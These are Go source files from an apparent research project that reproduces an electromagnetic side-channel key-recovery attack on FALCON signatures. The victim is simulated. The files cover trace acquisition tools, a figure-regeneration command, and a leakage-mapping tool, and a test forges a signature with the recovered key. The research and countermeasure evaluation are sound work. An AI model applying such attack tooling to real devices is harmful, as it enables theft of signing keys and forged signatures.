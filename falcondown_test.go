package falcondown

import "testing"

func TestPublicAPISignVerify(t *testing.T) {
	rnd := NewRNG(1)
	priv, pub, err := GenerateKey(32, rnd)
	if err != nil {
		t.Fatal(err)
	}
	msg := []byte("public api")
	sig, err := priv.Sign(msg, rnd)
	if err != nil {
		t.Fatal(err)
	}
	if err := pub.Verify(msg, sig); err != nil {
		t.Fatal(err)
	}
	if err := pub.Verify([]byte("other"), sig); err == nil {
		t.Fatal("wrong message accepted")
	}
}

func TestPublicAPIParams(t *testing.T) {
	p, err := ParamsForDegree(512)
	if err != nil {
		t.Fatal(err)
	}
	if p.N != 512 || p.SigByteLen != 666 {
		t.Fatalf("params = %+v", p)
	}
	if _, err := ParamsForDegree(7); err == nil {
		t.Fatal("degree 7 accepted")
	}
}

func TestPublicAPIFullAttack(t *testing.T) {
	rnd := NewRNG(11)
	priv, pub, err := GenerateKey(8, rnd)
	if err != nil {
		t.Fatal(err)
	}
	dev := NewVictimDevice(priv, Probe{Gain: 1, NoiseSigma: 2}, 12)
	obs, err := CollectTraces(dev, 1500, 13)
	if err != nil {
		t.Fatal(err)
	}
	stolen, report, err := RecoverKey(obs, pub, AttackConfig{})
	if err != nil {
		t.Fatalf("recovery: %v", err)
	}
	if report.MinPrune <= 0 {
		t.Errorf("min prune corr %v", report.MinPrune)
	}
	msg := []byte("forged through the public API")
	sig, err := stolen.Sign(msg, NewRNG(14))
	if err != nil {
		t.Fatal(err)
	}
	if err := pub.Verify(msg, sig); err != nil {
		t.Fatalf("forgery rejected: %v", err)
	}
	// Ground truth exposed for experiments matches the victim's secret.
	secret := FFTOfSecret(priv)
	recovered := FFTOfSecret(stolen)
	for i := range secret {
		if secret[i] != recovered[i] {
			t.Fatalf("FFT(f) mismatch at %d", i)
		}
	}
}

func TestEntropyRNGAvailable(t *testing.T) {
	a, b := NewEntropyRNG(), NewEntropyRNG()
	if a.Uint64() == b.Uint64() && a.Uint64() == b.Uint64() {
		t.Fatal("entropy RNGs produced identical outputs")
	}
}
