// Command figures regenerates every figure and table of the paper's
// evaluation section (see DESIGN.md §4) and prints the plotted series as
// CSV/text to stdout or a directory of files.
//
// Usage:
//
//	figures -list
//	figures -id FIG3 [-traces 10000] [-noise 8] [-n 64] [-seed 1]
//	figures -all -outdir out/
package main

import (
	"flag"
	"fmt"
	"io"
	"os"
	"path/filepath"

	"falcondown/internal/experiments"
)

var ids = []string{"FIG3", "FIG4A", "FIG4B", "FIG4C", "FIG4D", "FIG4EH", "TAB1", "E2E", "DISC-NTT", "DISC-CM", "DISC-CM2", "EXT-TEMPLATE", "TVLA", "ABL-MODEL", "ABL-NOISE"}

func main() {
	list := flag.Bool("list", false, "list experiment ids")
	id := flag.String("id", "", "experiment id to run")
	all := flag.Bool("all", false, "run every experiment")
	outdir := flag.String("outdir", "", "write per-experiment files instead of stdout")
	n := flag.Int("n", 64, "victim ring degree")
	traces := flag.Int("traces", 10000, "campaign size")
	noise := flag.Float64("noise", 8, "probe noise sigma")
	seed := flag.Uint64("seed", 1, "deterministic seed")
	e2eN := flag.Int("e2e-n", 16, "degree for the end-to-end key recovery")
	e2eTraces := flag.Int("e2e-traces", 1500, "traces for the end-to-end run")
	e2eNoise := flag.Float64("e2e-noise", 2, "noise for the end-to-end run")
	flag.Parse()

	if *list {
		for _, v := range ids {
			fmt.Println(v)
		}
		return
	}
	s := experiments.Setup{N: *n, NoiseSigma: *noise, Seed: *seed, Traces: *traces, Coeff: 5}
	run := func(one string) error {
		w := io.Writer(os.Stdout)
		if *outdir != "" {
			if err := os.MkdirAll(*outdir, 0o755); err != nil {
				return err
			}
			f, err := os.Create(filepath.Join(*outdir, one+".txt"))
			if err != nil {
				return err
			}
			defer f.Close()
			w = f
		}
		return emit(w, one, s, *e2eN, *e2eTraces, *e2eNoise)
	}
	switch {
	case *all:
		for _, one := range ids {
			fmt.Fprintf(os.Stderr, "== %s ==\n", one)
			if err := run(one); err != nil {
				fmt.Fprintln(os.Stderr, "figures:", one, err)
				os.Exit(1)
			}
		}
	case *id != "":
		if err := run(*id); err != nil {
			fmt.Fprintln(os.Stderr, "figures:", err)
			os.Exit(1)
		}
	default:
		flag.Usage()
		os.Exit(2)
	}
}

func emit(w io.Writer, id string, s experiments.Setup, e2eN, e2eTraces int, e2eNoise float64) error {
	switch id {
	case "FIG3":
		r, err := experiments.Fig3ExampleTrace(s)
		if err != nil {
			return err
		}
		return r.Render(w)
	case "FIG4A", "FIG4B", "FIG4C", "FIG4D":
		comp := map[string]experiments.Fig4Component{
			"FIG4A": experiments.Fig4Sign, "FIG4B": experiments.Fig4Exponent,
			"FIG4C": experiments.Fig4MantissaMul, "FIG4D": experiments.Fig4MantissaAdd,
		}[id]
		r, err := experiments.Fig4CorrelationVsTime(s, comp)
		if err != nil {
			return err
		}
		fmt.Fprintf(w, "# %s: correlation vs time sample, %d traces, 99.99%% threshold ±%.4f, exact ties with correct guess: %d\n",
			comp, r.Traces, r.Threshold, r.ExactTies)
		fmt.Fprint(w, "sample")
		for _, l := range r.Labels {
			fmt.Fprintf(w, ",%q", l)
		}
		fmt.Fprintln(w)
		for j := 0; j < len(r.Corr[0]); j++ {
			fmt.Fprintf(w, "%d", j)
			for g := range r.Corr {
				fmt.Fprintf(w, ",%.5f", r.Corr[g][j])
			}
			fmt.Fprintln(w)
		}
		return nil
	case "FIG4EH":
		for _, comp := range []experiments.Fig4Component{
			experiments.Fig4Sign, experiments.Fig4Exponent,
			experiments.Fig4MantissaMul, experiments.Fig4MantissaAdd} {
			r, err := experiments.Fig4CorrelationEvolution(s, comp)
			if err != nil {
				return err
			}
			fmt.Fprintf(w, "# %s: correlation evolution at leakiest sample; traces to 99.99%% significance: %d\n",
				comp, r.TracesToSignificance)
			fmt.Fprintln(w, "traces,correct,best_wrong,threshold")
			for i := range r.TraceCounts {
				fmt.Fprintf(w, "%d,%.5f,%.5f,%.5f\n",
					r.TraceCounts[i], r.CorrectCorr[i], r.BestWrong[i], r.Threshold[i])
			}
		}
		return nil
	case "TAB1":
		rows, err := experiments.Table1TracesToSignificance(s)
		if err != nil {
			return err
		}
		fmt.Fprintln(w, "component,traces_to_99.99%_significance,corr_at_full_campaign,exact_ties")
		for _, r := range rows {
			fmt.Fprintf(w, "%s,%d,%.4f,%d\n", r.Component, r.TracesToSignificance, r.CorrAtFullCampaign, r.ExactTies)
		}
		return nil
	case "E2E":
		r, err := experiments.EndToEnd(e2eN, e2eTraces, e2eNoise, s.Seed)
		if err != nil {
			return err
		}
		fmt.Fprintf(w, "n=%d traces=%d noise=%g recovered=%v f_exact=%v forgery_verified=%v min_prune=%.3f escalated=%d failure_detected=%v %s\n",
			r.N, r.Traces, r.NoiseSigma, r.Recovered, r.FExact, r.ForgeryVerified, r.MinPruneCorr, r.EscalatedValues, r.FailureDetected, r.FailureMessage)
		return nil
	case "DISC-NTT":
		r, err := experiments.NTTvsFFT(s)
		if err != nil {
			return err
		}
		fmt.Fprintf(w, "noise=%g ntt_traces=%d fft_traces=%d ntt_corr=%.4f (NTT breaks with far fewer traces, matching §V.C)\n",
			r.NoiseSigma, r.NTTTraces, r.FFTTraces, r.NTTCorrAtFull)
		return nil
	case "DISC-CM":
		r, err := experiments.CountermeasureShuffling(s)
		if err != nil {
			return err
		}
		fmt.Fprintf(w, "n=%d traces=%d baseline_correct=%d/%d shuffled_correct=%d/%d\n",
			r.N, r.Traces, r.BaselineCorrect, r.ValuesAttacked, r.ShuffledCorrect, r.ValuesAttacked)
		return nil
	case "DISC-CM2":
		rows, err := experiments.CountermeasureBlinding(s)
		if err != nil {
			return err
		}
		fmt.Fprintln(w, "countermeasure,sign_recovered,exponent_recovered,mantissa_recovered")
		for _, r := range rows {
			fmt.Fprintf(w, "%s,%v,%v,%v\n", r.Countermeasure, r.SignOK, r.ExpOK, r.MantOK)
		}
		return nil
	case "EXT-TEMPLATE":
		r, err := experiments.TemplateVsCPA(s, s.Traces/10)
		if err != nil {
			return err
		}
		fmt.Fprintf(w, "profiling_traces=%d attack_traces=%d template_rank=%d cpa_rank=%d min_traces_template=%d min_traces_cpa=%d\n",
			r.ProfilingTraces, r.AttackTraces, r.TemplateCorrectRank, r.CPACorrectRank, r.MinTracesTemplate, r.MinTracesCPA)
		return nil
	case "TVLA":
		r, err := experiments.TVLA(s)
		if err != nil {
			return err
		}
		fmt.Fprintf(w, "# fixed-vs-random Welch t-test over the attacked window; |t|>%.1f leaks\n", r.Threshold)
		fmt.Fprintf(w, "traces=%d max|t|=%.1f at micro-op %d; %d/%d samples leak\n",
			r.Traces, r.MaxAbsT, r.MaxAtOp, r.LeakyOps, len(r.TValues))
		fmt.Fprintln(w, "sample,t")
		for j, v := range r.TValues {
			fmt.Fprintf(w, "%d,%.2f\n", j, v)
		}
		return nil
	case "ABL-MODEL":
		rows, err := experiments.LeakageModelAblation(s)
		if err != nil {
			return err
		}
		fmt.Fprintln(w, "model,recovered,prune_corr")
		for _, r := range rows {
			fmt.Fprintf(w, "%s,%v,%.4f\n", r.Model, r.Recovered, r.PruneCorr)
		}
		return nil
	case "ABL-NOISE":
		rows, err := experiments.NoiseSweep(s, []float64{1, 2, 4, 8, 16})
		if err != nil {
			return err
		}
		fmt.Fprintln(w, "noise_sigma,traces_to_significance,recovered")
		for _, r := range rows {
			fmt.Fprintf(w, "%g,%d,%v\n", r.NoiseSigma, r.TracesToSignificance, r.Recovered)
		}
		return nil
	}
	return fmt.Errorf("unknown experiment id %q", id)
}
