// Command tracegen runs a known-plaintext EM campaign against a synthetic
// FALCON victim and writes the observations to a sharded trace corpus that
// cmd/attack can consume.
//
// Acquisition is parallel (-workers) but the corpus is byte-identical for
// any worker count: every observation's randomness is derived from
// (seed, index) and shards are committed in index order.
//
// Campaigns are restartable. SIGINT/SIGTERM finalizes the corpus cleanly
// at the last committed chunk, and -resume continues an interrupted (or
// even SIGKILLed — the torn shard is salvaged first) campaign from where
// it stopped. Because observation i depends only on (seed, i), a resumed
// corpus is byte-identical to an uninterrupted run, provided the same
// -n/-seed/-noise/-shard-size flags are given.
//
// Usage:
//
//	tracegen -n 64 -traces 2000 -noise 2 -seed 1 -out traces.fdt2 \
//	         -workers 8 -shard-size 500 -pub pub.key
//	tracegen -resume -n 64 -traces 2000 -noise 2 -seed 1 -out traces.fdt2 \
//	         -workers 8 -shard-size 500 -pub pub.key
package main

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"math/bits"
	"os"
	"os/signal"
	"syscall"
	"time"

	"falcondown/internal/codec"
	"falcondown/internal/emleak"
	"falcondown/internal/falcon"
	"falcondown/internal/rng"
	"falcondown/internal/tracestore"
)

func main() {
	n := flag.Int("n", 64, "ring degree of the victim key")
	traces := flag.Int("traces", 2000, "number of measurements")
	noise := flag.Float64("noise", 2, "probe noise sigma")
	seed := flag.Uint64("seed", 1, "deterministic seed")
	out := flag.String("out", "traces.fdt2", "trace corpus output (shard suffix added when -shard-size > 0)")
	pubOut := flag.String("pub", "victim.pub", "victim public key output")
	shuffle := flag.Bool("shuffle", false, "enable the shuffling countermeasure")
	workers := flag.Int("workers", 0, "acquisition goroutines (0 = GOMAXPROCS); output is identical for any value")
	shardSize := flag.Int("shard-size", 0, "observations per shard file (0 = single file)")
	resume := flag.Bool("resume", false, "continue an interrupted campaign (salvages a torn final shard; requires identical other flags)")
	flag.Parse()

	// SIGINT/SIGTERM cancels acquisition; the writer then finalizes at the
	// last committed chunk so the corpus is valid and resumable.
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()

	err := run(ctx, *n, *traces, *noise, *seed, *out, *pubOut, *shuffle, *workers, *shardSize, *resume)
	if errors.Is(err, context.Canceled) {
		fmt.Fprintln(os.Stderr, "tracegen:", err)
		os.Exit(130) // 128 + SIGINT: scripted campaigns can branch on interruption
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, "tracegen:", err)
		os.Exit(1)
	}
}

func run(ctx context.Context, n, traces int, noise float64, seed uint64, out, pubOut string, shuffle bool, workers, shardSize int, resume bool) error {
	priv, pub, err := falcon.GenerateKey(n, rng.New(seed))
	if err != nil {
		return err
	}
	dev := emleak.NewDevice(priv.FFTOfF(), emleak.HammingWeight{},
		emleak.Probe{Gain: 1, NoiseSigma: noise}, seed+1)
	dev.Shuffle = shuffle

	opts := tracestore.Options{
		ShardObs: shardSize,
		OnShard: func(path string, obs int, bytes int64) {
			fmt.Printf("  shard %s: %d observations, %d bytes\n", path, obs, bytes)
		},
	}
	var w *tracestore.Writer
	done := 0
	if resume {
		w, done, err = tracestore.ResumeWriter(out, n, opts)
		if err != nil {
			return err
		}
		if done > 0 {
			fmt.Printf("resuming campaign: %d of %d traces already on disk\n", done, traces)
		}
		if done > traces {
			return fmt.Errorf("existing corpus holds %d traces, more than the requested %d", done, traces)
		}
	} else {
		w, err = tracestore.NewWriter(out, n, opts)
		if err != nil {
			return err
		}
	}

	start := time.Now()
	acqErr := tracestore.Acquire(ctx, dev, seed+2, traces, w, tracestore.AcquireOptions{
		Workers: workers,
		Start:   done,
	})
	if errors.Is(acqErr, context.Canceled) || errors.Is(acqErr, context.DeadlineExceeded) {
		committed, ierr := w.Interrupt()
		if ierr != nil {
			return fmt.Errorf("interrupted, and finalizing the shard failed (salvage with -resume): %w", ierr)
		}
		fmt.Printf("interrupted: %d of %d traces durable in %s; rerun with -resume to continue\n",
			committed, traces, out)
		writePub(pub, n, pubOut) // best effort: the key is deterministic from -seed
		return acqErr
	}
	if cerr := w.Close(); acqErr == nil {
		acqErr = cerr
	}
	if acqErr != nil {
		return acqErr
	}
	st := w.Stats()
	fmt.Printf("captured %d traces of a FALCON-%d victim (noise σ=%g) in %v (%.0f traces/s, %d bytes, %d shard(s)) -> %s\n",
		st.Observations, n, noise, time.Since(start).Round(time.Millisecond),
		float64(st.Observations-int64(done))/time.Since(start).Seconds(), st.Bytes, st.Shards, out)

	if err := writePub(pub, n, pubOut); err != nil {
		return err
	}
	fmt.Printf("public key -> %s\n", pubOut)
	return nil
}

func writePub(pub *falcon.PublicKey, n int, pubOut string) error {
	logn := bits.Len(uint(n)) - 1
	return os.WriteFile(pubOut, codec.EncodePublicKey(pub.H, logn), 0o644)
}
