// Command tracegen runs a known-plaintext EM campaign against a synthetic
// FALCON victim and writes the observations to a trace file that
// cmd/attack can consume.
//
// Usage:
//
//	tracegen -n 64 -traces 2000 -noise 2 -seed 1 -out traces.fdtr -pub pub.key
package main

import (
	"flag"
	"fmt"
	"math/bits"
	"os"

	"falcondown/internal/codec"
	"falcondown/internal/emleak"
	"falcondown/internal/falcon"
	"falcondown/internal/rng"
)

func main() {
	n := flag.Int("n", 64, "ring degree of the victim key")
	traces := flag.Int("traces", 2000, "number of measurements")
	noise := flag.Float64("noise", 2, "probe noise sigma")
	seed := flag.Uint64("seed", 1, "deterministic seed")
	out := flag.String("out", "traces.fdtr", "trace file output")
	pubOut := flag.String("pub", "victim.pub", "victim public key output")
	shuffle := flag.Bool("shuffle", false, "enable the shuffling countermeasure")
	flag.Parse()

	if err := run(*n, *traces, *noise, *seed, *out, *pubOut, *shuffle); err != nil {
		fmt.Fprintln(os.Stderr, "tracegen:", err)
		os.Exit(1)
	}
}

func run(n, traces int, noise float64, seed uint64, out, pubOut string, shuffle bool) error {
	priv, pub, err := falcon.GenerateKey(n, rng.New(seed))
	if err != nil {
		return err
	}
	dev := emleak.NewDevice(priv.FFTOfF(), emleak.HammingWeight{},
		emleak.Probe{Gain: 1, NoiseSigma: noise}, seed+1)
	dev.Shuffle = shuffle
	obs, err := emleak.NewCampaign(dev, seed+2).Collect(traces)
	if err != nil {
		return err
	}
	f, err := os.Create(out)
	if err != nil {
		return err
	}
	defer f.Close()
	if err := emleak.WriteObservations(f, n, obs); err != nil {
		return err
	}
	logn := bits.Len(uint(n)) - 1
	if err := os.WriteFile(pubOut, codec.EncodePublicKey(pub.H, logn), 0o644); err != nil {
		return err
	}
	fmt.Printf("captured %d traces of a FALCON-%d victim (noise σ=%g) -> %s; public key -> %s\n",
		traces, n, noise, out, pubOut)
	return nil
}
