// Command tracegen runs a known-plaintext EM campaign against a synthetic
// FALCON victim and writes the observations to a sharded trace corpus that
// cmd/attack can consume.
//
// Acquisition is parallel (-workers) but the corpus is byte-identical for
// any worker count: every observation's randomness is derived from
// (seed, index) and shards are committed in index order.
//
// Campaigns are restartable. SIGINT/SIGTERM finalizes the corpus cleanly
// at the last committed chunk, and -resume continues an interrupted (or
// even SIGKILLed — the torn shard is salvaged first) campaign from where
// it stopped. Because observation i depends only on (seed, i), a resumed
// corpus is byte-identical to an uninterrupted run, provided the same
// -n/-seed/-noise/-shard-size flags are given.
//
// With -devices > 1 (or -flaky/-timeout/-hedge) acquisition runs through
// the supervision layer: a pool of devices with per-observation deadlines,
// retry with backoff, per-device circuit breakers and hedged
// re-measurement. -flaky injects deterministic misbehavior into chosen
// pool devices for dress rehearsals of hostile benches:
//
//	-flaky "0:hang,1:glitch=0.05,1:desync=0.05"
//
// with kinds hang, glitch[=prob], desync[=prob], transient[=prob] and
// latency[=duration]. Every fault draw derives from (seed, device, index),
// so a flaky campaign replays identically.
//
// Usage:
//
//	tracegen -n 64 -traces 2000 -noise 2 -seed 1 -out traces.fdt2 \
//	         -workers 8 -shard-size 500 -pub pub.key
//	tracegen -resume -n 64 -traces 2000 -noise 2 -seed 1 -out traces.fdt2 \
//	         -workers 8 -shard-size 500 -pub pub.key
//	tracegen -n 64 -traces 2000 -devices 3 -timeout 250ms -hedge 50ms \
//	         -breaker 3 -flaky "0:hang" -out traces.fdt2
package main

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"math/bits"
	"os"
	"os/signal"
	"syscall"
	"time"

	"falcondown/internal/codec"
	"falcondown/internal/emleak"
	"falcondown/internal/falcon"
	"falcondown/internal/rng"
	"falcondown/internal/supervise"
	"falcondown/internal/tracestore"
)

func main() {
	n := flag.Int("n", 64, "ring degree of the victim key")
	traces := flag.Int("traces", 2000, "number of measurements")
	noise := flag.Float64("noise", 2, "probe noise sigma")
	seed := flag.Uint64("seed", 1, "deterministic seed")
	out := flag.String("out", "traces.fdt2", "trace corpus output (shard suffix added when -shard-size > 0)")
	pubOut := flag.String("pub", "victim.pub", "victim public key output")
	shuffle := flag.Bool("shuffle", false, "enable the shuffling countermeasure")
	workers := flag.Int("workers", 0, "acquisition goroutines (0 = GOMAXPROCS); output is identical for any value")
	shardSize := flag.Int("shard-size", 0, "observations per shard file (0 = single file)")
	chunkSize := flag.Int("chunk", 0, "observations per CRC-framed chunk inside a shard (0 = format default); smaller chunks lose less to a torn write and feed the attack's read-ahead pipeline at finer grain")
	resume := flag.Bool("resume", false, "continue an interrupted campaign (salvages a torn final shard; requires identical other flags)")
	devices := flag.Int("devices", 1, "measurement devices in the supervised pool (>1 enables supervision)")
	timeout := flag.Duration("timeout", 0, "per-observation deadline of one supervised attempt (0 = none)")
	hedge := flag.Duration("hedge", 0, "hedged re-measurement delay for stragglers (0 = off)")
	breaker := flag.Int("breaker", 0, "consecutive failures that open a device's circuit breaker (0 = default 5)")
	flaky := flag.String("flaky", "", `inject misbehavior into pool devices, e.g. "0:hang,1:glitch=0.05"`)
	flag.Parse()

	// SIGINT/SIGTERM cancels acquisition; the writer then finalizes at the
	// last committed chunk so the corpus is valid and resumable.
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()

	pf := poolFlags{devices: *devices, timeout: *timeout, hedge: *hedge, breaker: *breaker, flaky: *flaky}
	err := run(ctx, *n, *traces, *noise, *seed, *out, *pubOut, *shuffle, *workers, *shardSize, *chunkSize, *resume, pf)
	if errors.Is(err, context.Canceled) {
		fmt.Fprintln(os.Stderr, "tracegen:", err)
		os.Exit(130) // 128 + SIGINT: scripted campaigns can branch on interruption
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, "tracegen:", err)
		os.Exit(1)
	}
}

// poolFlags carries the supervision flags; any non-zero value routes
// acquisition through the supervised pool.
type poolFlags struct {
	devices int
	timeout time.Duration
	hedge   time.Duration
	breaker int
	flaky   string
}

func (p poolFlags) enabled() bool {
	return p.devices > 1 || p.flaky != "" || p.timeout > 0 || p.hedge > 0 || p.breaker > 0
}

func run(ctx context.Context, n, traces int, noise float64, seed uint64, out, pubOut string, shuffle bool, workers, shardSize, chunkSize int, resume bool, pf poolFlags) error {
	priv, pub, err := falcon.GenerateKey(n, rng.New(seed))
	if err != nil {
		return err
	}
	dev := emleak.NewDevice(priv.FFTOfF(), emleak.HammingWeight{},
		emleak.Probe{Gain: 1, NoiseSigma: noise}, seed+1)
	dev.Shuffle = shuffle

	opts := tracestore.Options{
		ShardObs: shardSize,
		ChunkObs: chunkSize,
		OnShard: func(path string, obs int, bytes int64) {
			fmt.Printf("  shard %s: %d observations, %d bytes\n", path, obs, bytes)
		},
	}
	var w *tracestore.Writer
	done := 0
	if resume {
		w, done, err = tracestore.ResumeWriter(out, n, opts)
		if err != nil {
			return err
		}
		if done > 0 {
			fmt.Printf("resuming campaign: %d of %d traces already on disk\n", done, traces)
		}
		if done > traces {
			return fmt.Errorf("existing corpus holds %d traces, more than the requested %d", done, traces)
		}
	} else {
		w, err = tracestore.NewWriter(out, n, opts)
		if err != nil {
			return err
		}
	}

	start := time.Now()
	var acqErr error
	if pf.enabled() {
		acqErr = acquireSupervised(ctx, dev, seed, traces, done, workers, w, pf)
	} else {
		acqErr = tracestore.Acquire(ctx, dev, seed+2, traces, w, tracestore.AcquireOptions{
			Workers: workers,
			Start:   done,
		})
	}
	if errors.Is(acqErr, context.Canceled) || errors.Is(acqErr, context.DeadlineExceeded) {
		committed, ierr := w.Interrupt()
		if ierr != nil {
			return fmt.Errorf("interrupted, and finalizing the shard failed (salvage with -resume): %w", ierr)
		}
		fmt.Printf("interrupted: %d of %d traces durable in %s; rerun with -resume to continue\n",
			committed, traces, out)
		writePub(pub, n, pubOut) // best effort: the key is deterministic from -seed
		return acqErr
	}
	if cerr := w.Close(); acqErr == nil {
		acqErr = cerr
	}
	if acqErr != nil {
		return acqErr
	}
	st := w.Stats()
	fmt.Printf("captured %d traces of a FALCON-%d victim (noise σ=%g) in %v (%.0f traces/s, %d bytes, %d shard(s)) -> %s\n",
		st.Observations, n, noise, time.Since(start).Round(time.Millisecond),
		float64(st.Observations-int64(done))/time.Since(start).Seconds(), st.Bytes, st.Shards, out)

	if err := writePub(pub, n, pubOut); err != nil {
		return err
	}
	fmt.Printf("public key -> %s\n", pubOut)
	return nil
}

// acquireSupervised runs the campaign through the supervision layer: a
// pool of pf.devices measurement channels (with -flaky misbehavior
// injected into chosen ones), deadlines, retries, breakers and hedging.
// The corpus stays byte-identical to a plain single-device run as long as
// no byte-altering distortion (glitch/desync) is injected.
func acquireSupervised(ctx context.Context, dev *emleak.Device, seed uint64, traces, done, workers int, w tracestore.Appender, pf poolFlags) error {
	dists, err := emleak.ParseFlakySpec(pf.flaky, pf.devices, seed)
	if err != nil {
		return err
	}
	for _, d := range dists {
		if d.HangProb > 0 && pf.timeout <= 0 && pf.hedge <= 0 {
			return errors.New("a hanging device needs -timeout or -hedge to recover from")
		}
	}
	pool := make([]supervise.Device, pf.devices)
	for i := range pool {
		if d, ok := dists[i]; ok {
			pool[i] = emleak.NewFlakyDevice(dev, d, nil)
		} else {
			pool[i] = supervise.NewIdeal(dev)
		}
	}
	fmt.Printf("supervised pool: %d device(s), %d flaky, timeout %v, hedge %v\n",
		len(pool), len(dists), pf.timeout, pf.hedge)
	report, err := supervise.AcquirePool(ctx, pool, seed+2, traces, w, supervise.PoolOptions{
		Workers: workers,
		Start:   done,
		Timeout: pf.timeout,
		Hedge:   pf.hedge,
		Breaker: supervise.BreakerConfig{Threshold: pf.breaker},
	})
	if report != nil {
		fmt.Println(report)
		if report.Health.Degraded() {
			fmt.Println("corpus health:", &report.Health)
		}
	}
	return err
}

func writePub(pub *falcon.PublicKey, n int, pubOut string) error {
	logn := bits.Len(uint(n)) - 1
	return os.WriteFile(pubOut, codec.EncodePublicKey(pub.H, logn), 0o644)
}
