// Command tracegen runs a known-plaintext EM campaign against a synthetic
// FALCON victim and writes the observations to a sharded trace corpus that
// cmd/attack can consume.
//
// Acquisition is parallel (-workers) but the corpus is byte-identical for
// any worker count: every observation's randomness is derived from
// (seed, index) and shards are committed in index order.
//
// Usage:
//
//	tracegen -n 64 -traces 2000 -noise 2 -seed 1 -out traces.fdt2 \
//	         -workers 8 -shard-size 500 -pub pub.key
package main

import (
	"flag"
	"fmt"
	"math/bits"
	"os"
	"time"

	"falcondown/internal/codec"
	"falcondown/internal/emleak"
	"falcondown/internal/falcon"
	"falcondown/internal/rng"
	"falcondown/internal/tracestore"
)

func main() {
	n := flag.Int("n", 64, "ring degree of the victim key")
	traces := flag.Int("traces", 2000, "number of measurements")
	noise := flag.Float64("noise", 2, "probe noise sigma")
	seed := flag.Uint64("seed", 1, "deterministic seed")
	out := flag.String("out", "traces.fdt2", "trace corpus output (shard suffix added when -shard-size > 0)")
	pubOut := flag.String("pub", "victim.pub", "victim public key output")
	shuffle := flag.Bool("shuffle", false, "enable the shuffling countermeasure")
	workers := flag.Int("workers", 0, "acquisition goroutines (0 = GOMAXPROCS); output is identical for any value")
	shardSize := flag.Int("shard-size", 0, "observations per shard file (0 = single file)")
	flag.Parse()

	if err := run(*n, *traces, *noise, *seed, *out, *pubOut, *shuffle, *workers, *shardSize); err != nil {
		fmt.Fprintln(os.Stderr, "tracegen:", err)
		os.Exit(1)
	}
}

func run(n, traces int, noise float64, seed uint64, out, pubOut string, shuffle bool, workers, shardSize int) error {
	priv, pub, err := falcon.GenerateKey(n, rng.New(seed))
	if err != nil {
		return err
	}
	dev := emleak.NewDevice(priv.FFTOfF(), emleak.HammingWeight{},
		emleak.Probe{Gain: 1, NoiseSigma: noise}, seed+1)
	dev.Shuffle = shuffle

	w, err := tracestore.NewWriter(out, n, tracestore.Options{
		ShardObs: shardSize,
		OnShard: func(path string, obs int, bytes int64) {
			fmt.Printf("  shard %s: %d observations, %d bytes\n", path, obs, bytes)
		},
	})
	if err != nil {
		return err
	}
	start := time.Now()
	acqErr := tracestore.Acquire(dev, seed+2, traces, w, tracestore.AcquireOptions{Workers: workers})
	if cerr := w.Close(); acqErr == nil {
		acqErr = cerr
	}
	if acqErr != nil {
		return acqErr
	}
	st := w.Stats()
	fmt.Printf("captured %d traces of a FALCON-%d victim (noise σ=%g) in %v (%.0f traces/s, %d bytes, %d shard(s)) -> %s\n",
		st.Observations, n, noise, time.Since(start).Round(time.Millisecond),
		float64(st.Observations)/time.Since(start).Seconds(), st.Bytes, st.Shards, out)

	logn := bits.Len(uint(n)) - 1
	if err := os.WriteFile(pubOut, codec.EncodePublicKey(pub.H, logn), 0o644); err != nil {
		return err
	}
	fmt.Printf("public key -> %s\n", pubOut)
	return nil
}
