// Command leakmap characterizes a victim device before attacking it: it
// runs a known-key campaign and prints, per micro-operation of the
// attacked multiplication window, the SNR (signal-to-noise ratio of the
// Hamming-weight classes) and the fixed-vs-random TVLA t-statistic — the
// standard pre-attack leakage assessment toolbox.
//
// Usage:
//
//	leakmap -n 16 -traces 2000 -noise 2 -seed 1 -coeff 2
package main

import (
	"flag"
	"fmt"
	"os"

	"falcondown/internal/emleak"
	"falcondown/internal/experiments"
	"falcondown/internal/falcon"
	"falcondown/internal/fpr"
	"falcondown/internal/rng"
)

func main() {
	n := flag.Int("n", 16, "ring degree of the victim key")
	traces := flag.Int("traces", 2000, "number of measurements")
	noise := flag.Float64("noise", 2, "probe noise sigma")
	seed := flag.Uint64("seed", 1, "deterministic seed")
	coeff := flag.Int("coeff", 2, "coefficient window to assess")
	flag.Parse()

	if err := run(*n, *traces, *noise, *seed, *coeff); err != nil {
		fmt.Fprintln(os.Stderr, "leakmap:", err)
		os.Exit(1)
	}
}

func run(n, traces int, noise float64, seed uint64, coeff int) error {
	priv, _, err := falcon.GenerateKey(n, rng.New(seed))
	if err != nil {
		return err
	}
	dev := emleak.NewDevice(priv.FFTOfF(), emleak.HammingWeight{},
		emleak.Probe{Gain: 1, NoiseSigma: noise}, seed+1)
	obs, err := emleak.NewCampaign(dev, seed+2).Collect(traces)
	if err != nil {
		return err
	}
	snr, err := emleak.SNR(obs, priv.FFTOfF())
	if err != nil {
		return err
	}
	tv, err := experiments.TVLA(experiments.Setup{
		N: n, NoiseSigma: noise, Seed: seed, Traces: traces, Coeff: coeff})
	if err != nil {
		return err
	}

	fmt.Printf("leakage map of coefficient %d (FALCON-%d, %d traces, σ=%g)\n", coeff, n, traces, noise)
	fmt.Println("window  op            SNR      |t|   leaks")
	base := coeff * emleak.SamplesPerCoeff
	for mul := 0; mul < emleak.MulsPerCoeff; mul++ {
		for op := 0; op < emleak.OpsPerMul; op++ {
			idx := base + mul*emleak.OpsPerMul + op
			off := mul*emleak.OpsPerMul + op
			t := tv.TValues[off]
			mark := ""
			if t > tv.Threshold || t < -tv.Threshold {
				mark = "LEAK"
			}
			fmt.Printf("mul%d    %-12s %7.3f %7.1f  %s\n",
				mul, fpr.Op(op).String(), snr[idx], abs(t), mark)
		}
	}
	for s := emleak.MulsPerCoeff * emleak.OpsPerMul; s < emleak.SamplesPerCoeff; s++ {
		t := tv.TValues[s]
		mark := ""
		if t > tv.Threshold || t < -tv.Threshold {
			mark = "LEAK"
		}
		fmt.Printf("combine sample%-6d %7.3f %7.1f  %s\n", s, snr[base+s], abs(t), mark)
	}
	fmt.Printf("max |t| = %.1f at micro-op %d; %d/%d samples above %.1f\n",
		tv.MaxAbsT, tv.MaxAtOp, tv.LeakyOps, len(tv.TValues), tv.Threshold)
	return nil
}

func abs(v float64) float64 {
	if v < 0 {
		return -v
	}
	return v
